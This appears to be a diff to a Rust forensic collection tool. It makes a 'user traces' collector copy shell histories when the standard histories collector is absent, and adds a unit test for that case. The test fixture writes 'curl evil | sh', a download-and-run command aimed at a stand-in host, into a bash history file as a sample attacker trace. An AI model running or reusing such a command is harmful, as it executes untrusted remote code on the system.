@@ -98,8 +98,12 @@ struct Traces<'a> {
 
 impl Traces<'_> {
     fn collect(&mut self, sink: &mut dyn ItemSink) -> Result<(), CollectError> {
+        // What `Shell histories/` takes stays there when it runs; without it, here.
+        let histories = self.ctx.runs("histories");
         for (rel, name) in HISTORY_FILES {
-            if let Some((abs, stat, _)) = self.found(rel) {
+            if !histories {
+                self.file(sink, rel, rel, true)?;
+            } else if let Some((abs, stat, _)) = self.found(rel) {
                 let note =
                     format!("taken by the standard histories collector: Shell histories/{}/{name}", self.home.label);
                 self.taking.index.left_out(abs, stat, &self.home.label, Status::Elsewhere, note);
@@ -312,6 +316,19 @@ mod tests {
         assert_eq!(standard["note"], "taken by the standard histories collector: Shell histories/alice/.bash_history");
         let known = find_row(&index, "path", "/home/alice/.ssh/known_hosts");
         assert_eq!((known["category"].as_str(), known["status"].as_str()), ("alice", "copied"));
+    }
+
+    /// A profile without the standard `histories` collector: the shell histories come here.
+    #[test]
+    fn without_the_standard_histories_collector_the_histories_come_here() {
+        let f = Fixture::new();
+        f.write("/etc/passwd", PASSWD_FIXTURE);
+        f.write("/home/alice/.bash_history", "curl evil | sh\n");
+        let running: std::sync::Arc<[String]> = vec!["user_traces".to_owned()].into();
+        let ctx = Context { root: f.root().to_path_buf(), running: Some(running), ..Context::live(Default::default()) };
+        let mut sink = crate::collectors::test_support::MemorySink::default();
+        UserTraces.collect(&ctx, &mut sink).unwrap();
+        assert_eq!(sink.item("alice/.bash_history").text(), "curl evil | sh\n");
     }
 
     #[test]
